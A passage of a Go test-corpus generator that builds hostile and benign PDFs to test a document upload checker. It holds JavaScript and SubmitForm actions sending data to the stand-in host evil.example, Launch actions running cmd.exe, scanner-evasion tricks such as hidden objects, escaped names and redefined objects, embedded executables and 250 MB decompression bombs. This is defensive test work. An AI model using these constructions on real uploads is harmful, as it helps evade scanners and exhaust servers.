// Package doccorpus generates the hostile and benign documents that the upload checks are
// tested on: PDFs with active content under every filter and chain, hidden objects,
// automatic actions, bombs and encryption; OpenDocument files with macros however spelled,
// script bindings, OLE objects and zip bombs; and the ordinary files office suites write.
// Nothing is checked in: every file is written by the code here, so that a reader sees
// what each one holds. The service's flood test and the fuzzers reuse it.
package doccorpus

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"math/rand/v2"
	"strings"
	"sync"

	"github.com/parvis/parvis/internal/doccheck"
)

// Case is one document and what the checks must answer for it.
type Case struct {
	Name      string
	MediaType string
	// Want is the kind of refusal (doccheck.ErrActive...), nil for a file to accept.
	Want error
	// Reason is a part of the refusal's message, naming what was found.
	Reason string
	// Links are the links an accepted file reports, in order.
	Links []string
	// Large cases (the bombs, a 5 MB file) are built on first use and kept.
	Large bool
	build func() []byte
}

var (
	cacheMu sync.Mutex
	cache   = map[string][]byte{}
)

// Data returns the case's file. Callers must not modify it.
func (c *Case) Data() []byte {
	cacheMu.Lock()
	defer cacheMu.Unlock()
	if b, ok := cache[c.Name]; ok {
		return b
	}
	b := c.build()
	if c.Large {
		cache[c.Name] = b
	}
	return b
}

// All returns every case, PDFs then OpenDocument files.
func All() []Case { return append(PDFs(), ODFs()...) }

// Small returns the cases that are not Large: seeds for the fuzzers.
func Small() []Case {
	var out []Case
	for _, c := range All() {
		if !c.Large {
			out = append(out, c)
		}
	}
	return out
}

// Find returns the case of that name, or panics: for tests that need one file.
func Find(name string) Case {
	for _, c := range All() {
		if c.Name == name {
			return c
		}
	}
	panic("doccorpus: no case " + name)
}

// Filters are the filter chains an object stream is written under: every standard
// filter, both LZW variants, predictors, and chains of them.
var Filters = [][]string{
	nil,
	{"ASCIIHexDecode"}, {"AHx"}, {"ASCII85Decode"}, {"ASCII85Decode:<~"}, {"A85"},
	{"LZWDecode"}, {"LZWDecode:early=0"}, {"LZW"},
	{"RunLengthDecode"}, {"RL"},
	{"FlateDecode"}, {"Fl"}, {"FlateDecode:png=5"}, {"FlateDecode:tiff=3"},
	{"LZWDecode:png=4"}, {"LZWDecode:png=4,early=0"},
	{"ASCIIHexDecode", "FlateDecode"}, {"ASCII85Decode", "LZWDecode"}, {"ASCII85Decode", "LZWDecode:early=0"},
	{"ASCII85Decode", "FlateDecode"}, {"ASCIIHexDecode", "RunLengthDecode"}, {"RunLengthDecode", "ASCIIHexDecode"},
	{"FlateDecode", "FlateDecode"}, {"AHx", "A85", "LZW", "Fl:png=3"},
}

func chainName(f []string) string {
	if len(f) == 0 {
		return "none"
	}
	return strings.Join(f, "+")
}

func active(name, reason string, build func() []byte) Case {
	return Case{Name: name, MediaType: PDF, Want: doccheck.ErrActive, Reason: reason, build: build}
}

func link(uri string) string {
	return fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A << /Type /Action /S /URI /URI (%s) >> >>", uri)
}

const js = "<< /Type /Action /S /JavaScript /JS (app.alert\\('parvis'\\); this.submitForm\\('https://evil.example/'\\)) >>"

// PDFs returns the PDF cases.
func PDFs() []Case {
	var cs []Case
	for _, f := range Filters {
		f := f
		cs = append(cs,
			active("pdf/objstm/"+chainName(f)+"/javascript-openaction", "JavaScript action in object 5 0", func() []byte {
				return Packed("/OpenAction 5 0 R", "", f, js)
			}),
			active("pdf/objstm/"+chainName(f)+"/inline-javascript-openaction", "JavaScript action in object 1 0", func() []byte {
				return Packed("/OpenAction "+js, "", f)
			}),
			active("pdf/objstm/"+chainName(f)+"/submitform-openaction", "SubmitForm action in object 5 0", func() []byte {
				return Packed("/OpenAction 5 0 R", "", f, "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>")
			}),
			active("pdf/objstm/"+chainName(f)+"/uri-openaction", "automatic URI action in the /OpenAction of object 1 0", func() []byte {
				return Packed("/OpenAction 5 0 R", "", f, "<< /S /URI /URI (https://evil.example/track) >>")
			}),
			Case{Name: "pdf/objstm/" + chainName(f) + "/links", MediaType: PDF, Links: []string{"https://www.mairie-exemple.fr/conseil", "mailto:accueil@mairie-exemple.fr"}, build: func() []byte {
				return Packed("/OpenAction [3 0 R /Fit]", "/Annots [5 0 R 6 0 R 7 0 R]", f,
					link("https://www.mairie-exemple.fr/conseil"), link("mailto:accueil@mairie-exemple.fr"), link("https://www.mairie-exemple.fr/conseil"))
			}},
		)
	}
	cs = append(cs, openActions()...)
	cs = append(cs, hidden()...)
	cs = append(cs, refusedPDF()...)
	cs = append(cs, bombsPDF()...)
	cs = append(cs, benignPDF()...)
	return cs
}

func openActions() []Case {
	simple := func(cat, page string, more ...string) func() []byte {
		return func() []byte { return Simple(cat, page, more...) }
	}
	return []Case{
		active("pdf/openaction/launch", "Launch action in object 1 0", simple("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", "")),
		active("pdf/openaction/submitform", "SubmitForm action in object 1 0", simple("/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>", "")),
		active("pdf/openaction/importdata", "ImportData action in object 1 0", simple("/OpenAction << /S /ImportData /F (data.fdf) >>", "")),
		active("pdf/openaction/uri", "automatic URI action in the /OpenAction of object 1 0", simple("/OpenAction << /S /URI /URI (https://evil.example/) >>", "")),
		active("pdf/openaction/uri-by-reference", "automatic URI action in the /OpenAction of object 1 0", simple("/OpenAction 5 0 R", "", "<< /S /URI /URI (https://evil.example/) >>")),
		active("pdf/openaction/named-print", "automatic Named action", simple("/OpenAction << /S /Named /N /Print >>", "")),
		active("pdf/openaction/untyped", "an automatic action without a type", simple("/OpenAction << /URI (https://evil.example/) >>", "")),
		active("pdf/openaction/next-uri", "automatic URI action in the /OpenAction of object 1 0", simple("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", "", "<< /S /URI /URI (https://evil.example/) >>")),
		active("pdf/openaction/next-chain", "automatic URI action in the /OpenAction of object 1 0", simple("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", "",
			"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >> >>", "<< /S /URI /URI (https://evil.example/) >>")),
		active("pdf/openaction/next-in-objstm", "automatic Hide action in the /OpenAction of object 1 0", func() []byte {
			return Packed("/OpenAction 5 0 R", "", []string{"ASCIIHexDecode", "FlateDecode"}, "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "<< /S /Hide /T (x) >>")
		}),
		active("pdf/openaction/other-generation", "automatic URI action in the /OpenAction of object 1 0", func() []byte {
			// "5 7 R" where object 5 has generation 0: some viewers do not compare.
			return Packed("/OpenAction 5 7 R", "", []string{"FlateDecode"}, "<< /S /URI /URI (https://evil.example/) >>")
		}),
		active("pdf/openaction/type-by-reference", "the name /URI as object 6 0", simple("/OpenAction << /S 6 0 R /URI (https://evil.example/) >>", "", "null", "/URI")),
		active("pdf/openaction/repeated-key", "automatic URI action in the /OpenAction of object 1 0", simple("/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/) >>", "")),
		active("pdf/openaction/redefined", "automatic URI action in the /OpenAction of object 1 0", func() []byte {
			// An incremental update redefines the GoTo the catalog opens with.
			b := Simple("/OpenAction 5 0 R", "", "<< /S /GoTo /D [3 0 R /Fit] >>")
			return append(b, "5 0 obj\n<< /S /URI /URI (https://evil.example/) >>\nendobj\nstartxref\n0\n%%EOF\n"...)
		}),
		active("pdf/aa/page-open-uri", "automatic URI action in the /AA of object 3 0 /O", simple("", "/AA << /O << /S /URI /URI (https://evil.example/) >> >>")),
		active("pdf/aa/by-reference", "automatic URI action in the /AA of object 3 0 /O", simple("", "/AA 5 0 R", "<< /O 6 0 R >>", "<< /S /URI /URI (https://evil.example/) >>")),
		active("pdf/aa/javascript-field", "JavaScript action in object 6 0", func() []byte {
			return Packed("/AcroForm << /Fields [5 0 R] >>", "/Annots [5 0 R]", []string{"FlateDecode"},
				"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [72 600 300 620] /AA << /K 6 0 R >> >>", "<< /S /JavaScript /JS (event.rc = true) >>")
		}),
		active("pdf/aa/catalog-close", "automatic ResetForm action in the /AA of object 1 0 /WC", simple("/AA << /WC << /S /ResetForm >> >>", "")),
		active("pdf/openaction/gotor", "GoToR action (to another file) in object 1 0", simple("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>", "")),
		active("pdf/openaction/gotoe", "GoToE action (to an embedded file) in object 1 0", simple("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>", "")),
		active("pdf/openaction/rendition", "Rendition action in object 1 0", simple("/OpenAction << /S /Rendition /OP 0 >>", "")),
		active("pdf/openaction/movie", "Movie action in object 1 0", simple("/OpenAction << /S /Movie /T (m) >>", "")),
		active("pdf/openaction/sound", "Sound action in object 1 0", simple("/OpenAction << /S /Sound /Sound 5 0 R >>", "", "<< /R 8000 >>")),
		active("pdf/openaction/3d", "3D action in object 1 0", simple("/OpenAction << /S /GoTo3DView /TA 5 0 R /V /F >>", "", "null")),
	}
}

func hidden() []Case {
	return []Case{
		active("pdf/hidden/in-a-string", "JavaScript action in object 21 0", func() []byte {
			return Simple("/OpenAction 21 0 R", "", "(a note: 21 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj)")
		}),
		active("pdf/hidden/in-a-stream", "Launch action in object 22 0", func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "/OpenAction 22 0 R", "") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", []byte("BT ET\n22 0 obj << /S /Launch /F (calc.exe) >> endobj\n"))
			return w.Xref("/Root 1 0 R")
		}),
		active("pdf/hidden/after-eof", "Launch action in object 30 0", func() []byte {
			return append(Simple("", ""), "30 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n%%EOF\n"...)
		}),
		active("pdf/hidden/broken-xref", "SubmitForm action in object 5 0", func() []byte {
			b := Simple("/OpenAction 5 0 R", "", "<< /S /SubmitForm /F (https://evil.example/) >>")
			i := bytes.LastIndex(b, []byte("startxref\n"))
			return append(b[:i:i], "startxref\n999999\n%%EOF\n"...)
		}),
		active("pdf/hidden/no-endobj", "JavaScript action in object 5 0", func() []byte {
			return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 5 0 R >>\n5 0 obj << /S /JavaScript /JS (x) >>\ntrailer << /Root 1 0 R >>\n%%EOF\n")
		}),
		active("pdf/hidden/container-named-by-xref-stream", "JavaScript action in object 5 0", func() []byte {
			w := NewPDF()
			w.Stream(4, "", Text("Bonjour"), "FlateDecode")
			w.ObjStm(10, "-", append(Page(1, "/OpenAction 5 0 R", ""), Member{5, js}), "ASCIIHexDecode", "FlateDecode")
			return w.XrefStream(11, "/Root 1 0 R", "FlateDecode:png=7")
		}),
		active("pdf/hidden/between-objstm-members", "JavaScript (/JS) in object stream 10 0", func() []byte {
			w := NewPDF()
			w.Stream(4, "", Text("Bonjour"), "FlateDecode")
			// The header says one object at offset 0; the rest of the stream, after it, is
			// read by nothing but a tokeniser.
			body := "<< /Type /Catalog /Pages 2 0 R >>\n<< /JS (app.alert\\(1\\)) >>\n"
			head := "1 0 "
			w.RawStream(10, fmt.Sprintf("/Type /ObjStm /N 1 /First %d /Filter /ASCIIHexDecode", len(head)), Encode([]byte(head+body), "ASCIIHexDecode"))
			return w.Xref("/Root 1 0 R")
		}),
		active("pdf/hidden/xref-names-another-object", "automatic URI action in the /OpenAction of object 1 0", func() []byte {
			// The container's header calls its first object 99; the cross-reference
			// stream says it is object 5, which the catalog opens with. Some viewers
			// believe the cross-reference.
			w := NewPDF()
			for _, m := range Page(1, "/OpenAction 5 0 R", "") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", Text("Bonjour"), "FlateDecode")
			w.ObjStm(10, "", []Member{{99, "<< /S /URI /URI (https://evil.example/) >>"}}, "FlateDecode")
			delete(w.packed, 99)
			w.packed[5] = [2]int{10, 0}
			return w.XrefStream(11, "/Root 1 0 R", "FlateDecode:png=7")
		}),
		active("pdf/names/escaped-javascript", "JavaScript action in object 1 0", func() []byte {
			return Simple("/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>", "")
		}),
		active("pdf/names/escaped-openaction", "automatic URI action in the /OpenAction of object 1 0", func() []byte {
			return Simple("/Open#41ction << /S /#55RI /URI (https://evil.example/) >>", "")
		}),
		active("pdf/names/escaped-objstm-type", "Launch action in object 5 0", func() []byte {
			w := NewPDF()
			w.Stream(4, "", Text("Bonjour"), "FlateDecode")
			w.ObjStm(10, "-/Type /Obj#53tm", append(Page(1, "/OpenAction 5 0 R", ""), Member{5, "<< /S /Launch /F (cmd.exe) >>"}), "#46lateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		active("pdf/content/javascript-in-marked-content", "JavaScript (/JS) in the content of object 4 0", func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", []byte("/Span << /JS (app.alert\\(1\\)) >> BDC BT /F1 12 Tf (x) Tj ET EMC"), "ASCII85Decode", "FlateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		active("pdf/names/javascript-tree", "JavaScript name tree in object 1 0", func() []byte {
			return Simple("/Names << /JavaScript 5 0 R >>", "", "<< /Names [(a) 6 0 R] >>")
		}),
	}
}

func refusedPDF() []Case {
	simple := func(cat, page string, more ...string) func() []byte {
		return func() []byte { return Simple(cat, page, more...) }
	}
	malformed := func(name, reason string, build func() []byte) Case {
		return Case{Name: name, MediaType: PDF, Want: doccheck.ErrMalformed, Reason: reason, build: build}
	}
	protected := func(name string, build func() []byte) Case {
		return Case{Name: name, MediaType: PDF, Want: doccheck.ErrProtected, Reason: "encrypted", build: build}
	}
	encrypt := "<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /U <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /P -3904 >>"
	return []Case{
		active("pdf/annot/richmedia", "RichMedia annotation in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent 6 0 R >>", "<< /Assets 7 0 R >>")),
		active("pdf/action/richmedia-execute", "RichMedia action in object 5 0", simple("", "", "<< /S /RichMediaExecute /TA 6 0 R /TI 7 0 R >>")),
		active("pdf/embedded/names", "embedded files in object 1 0", simple("/Names << /EmbeddedFiles 5 0 R >>", "", "<< /Names [(facture.exe) 6 0 R] >>")),
		active("pdf/embedded/filespec", "embedded file in object 5 0", simple("", "", "<< /Type /Filespec /F (facture.exe) /EF << /F 6 0 R >> >>")),
		active("pdf/embedded/stream", "embedded file in object 5 0", func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", Text("Bonjour"), "FlateDecode")
			w.Stream(5, "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", append([]byte("MZ\x90\x00"), make([]byte, 200)...), "FlateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		active("pdf/annot/file-attachment", "file attachment annotation in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>")),
		active("pdf/annot/3d", "3D annotation in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /3D /Rect [0 0 20 20] >>")),
		active("pdf/annot/movie", "Movie annotation in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /Movie /Rect [0 0 20 20] >>")),
		active("pdf/annot/sound", "Sound annotation in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] >>")),
		active("pdf/link/gotor", "GoToR action (to another file) in object 5 0", simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /GoToR /F (autre.pdf) /D [0 /Fit] >> >>")),
		active("pdf/link/javascript-uri", "javascript: link in object 5 0", simple("", "/Annots [5 0 R]", link("javascript:app.alert(1)"))),
		active("pdf/link/file-uri", "file: link in object 5 0", simple("", "/Annots [5 0 R]", link("file:///C:/Windows/System32/calc.exe"))),
		active("pdf/xfa", "XFA form in object 1 0", simple("/AcroForm << /Fields [] /XFA 5 0 R >>", "", "<< >>")),
		active("pdf/js-key-alone", "JavaScript (/JS) in object 5 0", simple("", "", "<< /JS 6 0 R >>", "(app.alert\\(1\\))")),
		malformed("pdf/objstm/corrupt-flate", "object stream 10 0 cannot be decoded", func() []byte {
			w := NewPDF()
			w.RawStream(10, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", []byte("\x78\x9c\xff\xff\xff\xff\x00\x01\x02\x03garbage"))
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/objstm/unknown-filter", "unknown filter /ROT13Decode in object stream 10 0", func() []byte {
			w := NewPDF()
			w.RawStream(10, "/Type /ObjStm /N 1 /First 4 /Filter /ROT13Decode", []byte("1 0 <<>>"))
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/objstm/image-filter", "image filter /DCTDecode on a stream that is not an image in object stream 10 0", func() []byte {
			w := NewPDF()
			w.RawStream(10, "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /DCTDecode]", []byte("1 0 <<>>"))
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/objstm/filter-out-of-reach", "filters given by a reference that cannot be followed in object stream 12 0", func() []byte {
			// The filter of object stream 12 is object 20, itself packed in object
			// stream 10: a viewer reads it, a check that looked only in the file would
			// take the stream as unfiltered and read hexadecimal digits.
			w := NewPDF()
			w.ObjStm(10, "", []Member{{20, "/ASCIIHexDecode"}}, "FlateDecode")
			var head, body bytes.Buffer
			for i, m := range append(Page(1, "/OpenAction 5 0 R", ""), Member{5, js}) {
				fmt.Fprintf(&head, "%d %d ", m.Num, body.Len())
				body.WriteString(m.Body + "\n")
				w.packed[m.Num] = [2]int{12, i}
			}
			data := append(head.Bytes(), body.Bytes()...)
			w.RawStream(12, fmt.Sprintf("/Type /ObjStm /N 4 /First %d /Filter 20 0 R", head.Len()), Encode(data, "ASCIIHexDecode"))
			return w.XrefStream(11, "/Root 1 0 R", "FlateDecode:png=7")
		}),
		malformed("pdf/objstm/conflicting-filter", "object 20, which a stream's decoding needs, is defined twice differently", func() []byte {
			// The first definition of the filter makes the stream read as garbage; the
			// update, which a viewer follows, as Flate.
			w := NewPDF()
			w.Obj(20, "/ASCIIHexDecode")
			var head, body bytes.Buffer
			for _, m := range append(Page(1, "/OpenAction 5 0 R", ""), Member{5, js}) {
				fmt.Fprintf(&head, "%d %d ", m.Num, body.Len())
				body.WriteString(m.Body + "\n")
			}
			data := append(head.Bytes(), body.Bytes()...)
			w.RawStream(12, fmt.Sprintf("/Type /ObjStm /N 4 /First %d /Filter 20 0 R", head.Len()), Deflate(data))
			w.Obj(20, "/FlateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/objstm/no-header", "object stream 10 0 has no readable header", func() []byte {
			w := NewPDF()
			w.Stream(10, "/Type /ObjStm", []byte("<< /Type /Catalog /Pages 2 0 R >>"), "FlateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/content/unknown-filter", "unknown filter /Secret in object 4 0", func() []byte {
			w := NewPDF()
			w.RawStream(4, "/Filter /Secret", []byte("BT ET"))
			return w.Xref("/Root 1 0 R")
		}),
		malformed("pdf/deep-nesting", "nested deeper than 64 levels", func() []byte {
			return []byte("%PDF-1.7\n1 0 obj\n" + strings.Repeat("[", 200) + strings.Repeat("]", 200) + "\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
		}),
		malformed("pdf/polyglot-zip", "also a zip archive", func() []byte {
			return append(Simple("", ""), Zip(Entry{Name: "a.txt", Data: []byte("x")})...)
		}),
		malformed("pdf/no-eof", "no %%EOF", func() []byte { return []byte("%PDF-1.7\n1 0 obj\n<< >>\nendobj\n") }),
		malformed("pdf/html-named-pdf", "no PDF header", func() []byte { return []byte("<html><script>alert(1)</script></html>\n%%EOF\n") }),
		protected("pdf/encrypted/trailer", func() []byte {
			return NewPDF().Obj(1, "<< /Type /Catalog >>").Obj(5, encrypt).Xref("/Root 1 0 R /Encrypt 5 0 R")
		}),
		protected("pdf/encrypted/escaped", func() []byte {
			return NewPDF().Obj(1, "<< /Type /Catalog >>").Obj(5, encrypt).Xref("/Root 1 0 R /Encr#79pt 5 0 R")
		}),
		protected("pdf/encrypted/xref-stream", func() []byte {
			w := NewPDF()
			w.Obj(5, encrypt)
			w.ObjStm(10, "", Page(1, "", ""), "FlateDecode")
			return w.XrefStream(11, "/Root 1 0 R /Encrypt 5 0 R /ID [<0011> <0011>]", "FlateDecode:png=7")
		}),
	}
}

// zeros is n zero bytes: compressed, the stuff of bombs.
func zeros(n int) []byte { return make([]byte, n) }

var bombOnce = sync.OnceValue(func() []byte { return ZerosZlib(250 << 20) })

// Bomb250 is the measured attack: a 249 KB PDF whose content stream inflates to 250 MB.
func Bomb250() []byte {
	w := NewPDF()
	for _, m := range Page(1, "", "") {
		w.Obj(m.Num, m.Body)
	}
	w.RawStream(4, "/Filter /FlateDecode", bombOnce())
	return w.Xref("/Root 1 0 R")
}

func bombsPDF() []Case {
	bomb := func(name, reason string, build func() []byte) Case {
		return Case{Name: name, MediaType: PDF, Want: doccheck.ErrBomb, Reason: reason, Large: true, build: build}
	}
	return []Case{
		bomb("pdf/bomb/content-250MB", "object 4 0 unpacks to more than 200 times its size", Bomb250),
		bomb("pdf/bomb/objstm-9MB", "object stream 10 0 decompresses to more than 8 MiB", func() []byte {
			// Text that compresses as text does, so that the object stream's own cap
			// is what stops it.
			var b strings.Builder
			r := rand.New(rand.NewPCG(5, 6))
			for b.Len() < 9<<20 {
				fmt.Fprintf(&b, "/K%d [%d %d] ", r.IntN(1e6), r.IntN(1e6), r.IntN(1e6))
			}
			w := NewPDF()
			w.ObjStm(10, "", append(Page(1, "", ""), Member{5, "<< " + b.String() + " >>"}), "FlateDecode")
			return w.XrefStream(11, "/Root 1 0 R", "FlateDecode:png=7")
		}),
		bomb("pdf/bomb/flate-of-flate", "object 4 0 unpacks to more than 200 times its size", func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "") {
				w.Obj(m.Num, m.Body)
			}
			w.RawStream(4, "/Filter [/FlateDecode /FlateDecode]", Deflate(bombOnce()))
			return w.Xref("/Root 1 0 R")
		}),
		bomb("pdf/bomb/many-streams", "decompresses to more than 64 MiB", func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "") {
				w.Obj(m.Num, m.Body)
			}
			// Each under the ratio's floor, all together past the budget.
			one := Deflate(zeros(4<<20 - 1))
			for i := range 20 {
				w.RawStream(20+i, "/Filter /FlateDecode", one)
			}
			return w.Xref("/Root 1 0 R")
		}),
		bomb("pdf/bomb/overlapping-objects", "of parsing: its objects overlap", func() []byte {
			return []byte("%PDF-1.7\n" + strings.Repeat("1 0 obj (", 8000) + strings.Repeat(")", 8000) + "\n%%EOF\n")
		}),
	}
}

func benignPDF() []Case {
	ok := func(name string, links []string, build func() []byte) Case {
		return Case{Name: name, MediaType: PDF, Links: links, build: build}
	}
	return []Case{
		ok("pdf/benign/plain", nil, func() []byte { return Simple("", "") }),
		ok("pdf/benign/links", []string{"https://www.mairie-exemple.fr/", "https://www.service-public.fr/particuliers"}, func() []byte {
			return Simple("", "/Annots [5 0 R 6 0 R 7 0 R]", link("https://www.mairie-exemple.fr/"), link("https://www.service-public.fr/particuliers"), link("https://www.mairie-exemple.fr/"))
		}),
		ok("pdf/benign/link-by-reference", []string{"https://www.mairie-exemple.fr/plu"}, func() []byte {
			return Simple("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI 6 0 R >> >>", "(https://www.mairie-exemple.fr/plu)")
		}),
		ok("pdf/benign/goto-openaction", nil, func() []byte {
			return Packed("/OpenAction 5 0 R /Outlines 6 0 R", "", []string{"FlateDecode"}, "<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>",
				"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", "<< /Title (Ordre du jour) /Parent 6 0 R /Dest [3 0 R /Fit] >>")
		}),
		ok("pdf/benign/dest-openaction", nil, func() []byte { return Simple("/OpenAction [3 0 R /FitH 842] /PageMode /UseOutlines", "") }),
		ok("pdf/benign/images", nil, func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "/Resources << /XObject << /Im1 5 0 R /Im2 6 0 R >> >>") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", []byte("q 100 0 0 100 72 600 cm /Im1 Do Q q 100 0 0 100 200 600 cm /Im2 Do Q"), "FlateDecode")
			w.Stream(5, "/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8", noise(64*64*3, 1), "FlateDecode:png=192")
			w.RawStream(6, "/Type /XObject /Subtype /Image /Width 32 /Height 32 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", jpegOf(32, 32))
			w.RawStream(7, "/Width 8 /Height 8 /Filter /JBIG2Decode", noise(64, 2)) // a thumbnail-like image without /Subtype
			return w.Xref("/Root 1 0 R")
		}),
		ok("pdf/benign/blank-scan", nil, func() []byte {
			// A blank page scanned to a Flate image: 8 MB of white that compresses a
			// thousand times, and is pixels, not syntax.
			w := NewPDF()
			for _, m := range Page(1, "", "/Resources << /XObject << /Im1 5 0 R >> >>") {
				w.Obj(m.Num, m.Body)
			}
			w.Stream(4, "", []byte("q 595 0 0 842 0 0 cm /Im1 Do Q"), "FlateDecode")
			w.RawStream(5, "/Type /XObject /Subtype /Image /Width 2480 /Height 3508 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", Deflate(bytes.Repeat([]byte{0xff}, 2480*3508)))
			return w.Xref("/Root 1 0 R")
		}),
		ok("pdf/benign/libreoffice", []string{"https://www.mairie-exemple.fr/deliberations"}, LibreOffice),
		ok("pdf/benign/word", nil, Word),
		ok("pdf/benign/inline-image", nil, func() []byte {
			w := NewPDF()
			for _, m := range Page(1, "", "") {
				w.Obj(m.Num, m.Body)
			}
			img := append([]byte("<< /JS (not a dict: image data) >> ((( [[[ "), noise(200, 3)...)
			content := append([]byte("q BI /W 10 /H 10 /BPC 8 /CS /RGB ID "), img...)
			content = append(content, "\nEI Q BT /F1 12 Tf (Bonjour) Tj ET"...)
			w.Stream(4, "", content, "FlateDecode")
			return w.Xref("/Root 1 0 R")
		}),
		ok("pdf/benign/incremental-update", nil, func() []byte {
			b := Simple("", "")
			return append(b, "5 0 obj\n<< /Producer (Parvis) >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Info 5 0 R >>\nstartxref\n0\n%%EOF\n"...)
		}),
		{Name: "pdf/benign/5MB", MediaType: PDF, Large: true, Links: fiveMBLinks(), build: FiveMB},
	}
}

// noise is n bytes of a fixed pseudo-random sequence: data that compresses poorly, as
// image data and fonts do.
func noise(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, seed))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

func jpegOf(w, h int) []byte {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{byte(4 * x), byte(4 * y), 128, 255})
		}
	}
	var b bytes.Buffer
	jpeg.Encode(&b, img, nil)
	return b.Bytes()
}

// LibreOffice writes a PDF the way LibreOffice's export does (object streams since 7.x,
// a cross-reference stream, Flate content, an embedded TrueType subset, a ToUnicode CMap,
// XMP metadata, an ICC profile, a link).
func LibreOffice() []byte {
	w := NewPDF()
	w.Stream(4, "", append(Text("Délibération du conseil municipal", "Séance du 29 septembre 2026"), "/P << /MCID 0 >> BDC EMC\n"...), "FlateDecode")
	w.Stream(12, "/Length1 4096", noise(4096, 7), "FlateDecode")
	w.Stream(13, "", []byte("/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def /CMapName /Adobe-Identity-UCS def /CMapType 2 def 1 begincodespacerange <00> <FF> endcodespacerange endcmap CMapName currentdict /CMap defineresource pop end end"), "FlateDecode")
	w.Stream(14, "/N 3 /Alternate /DeviceRGB", noise(3144, 8), "FlateDecode")
	w.Stream(15, "/Type /Metadata /Subtype /XML", []byte(`<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:pdf="http://ns.adobe.com/pdf/1.3/"><pdf:Producer>LibreOffice 7.6</pdf:Producer></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`))
	members := Page(1, "/Metadata 15 0 R /Lang (fr-FR) /MarkInfo << /Marked true >> /OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /DestOutputProfile 14 0 R /OutputConditionIdentifier (sRGB IEC61966-2.1) >>]", "/Annots [5 0 R] /StructParents 0")
	members = append(members,
		Member{5, link("https://www.mairie-exemple.fr/deliberations")},
